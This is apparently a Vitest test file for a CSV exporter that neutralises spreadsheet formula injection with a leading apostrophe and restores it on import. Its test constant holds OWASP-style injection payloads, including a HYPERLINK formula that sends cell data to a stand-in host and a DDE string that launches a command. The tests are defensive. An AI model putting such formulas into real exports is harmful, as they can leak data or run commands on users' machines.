import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvFile } from '../../../src/server/exports/files';
import { GERMAN_CSV } from '../../../src/shared/csv-format';
import { neutraliseFormula, restoreFormula } from '../../../src/server/exports/formula-cells';

/** Texts spreadsheet programs run as formulas: OWASP's CSV injection examples and every character a formula starts with. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tleading tab', '\rleading CR'];

describe('CSV cells that would start a formula', () => {
  it.each(FORMULAS)('a text beginning with =, +, -, @, tab or CR gets a leading apostrophe (%j)', (formula) => {
    expect(neutraliseFormula(formula)).toBe(`'${formula}`);
  });

  it.each(['-2.5', '-12', '0.125', '-1e-7', '2025'])('a plain decimal number is written as it is (%s)', (number) => {
    expect(neutraliseFormula(number)).toBe(number);
  });

  it.each(['Weser Ölmühle', 'a=b', ' =x', "'quoted", "O'Brien", ''])('any other text is written as it is (%j)', (plain) => {
    expect(neutraliseFormula(plain)).toBe(plain);
  });

  it.each([...FORMULAS, "'=already guarded", "''-2+3", "'quoted", '-2.5', 'plain'])('the import reads the written cell back to the text (%j)', (value) => {
    expect(restoreFormula(neutraliseFormula(value))).toBe(value);
  });

  it('the CSV writer guards text cells and writes numbers as numbers, in any format', async () => {
    const written = (
      await buffer(
        csvFile(
          [
            ['Name', 'Longitude', 'Count'],
            ['-2+3', '-2.5', -3.5],
          ],
          { format: GERMAN_CSV, timeZone: 'Europe/Berlin' },
        ),
      )
    ).toString('utf8');
    expect(written).toBe("\uFEFFName;Longitude;Count\n'-2+3;-2.5;-3,5\n");
  });
});
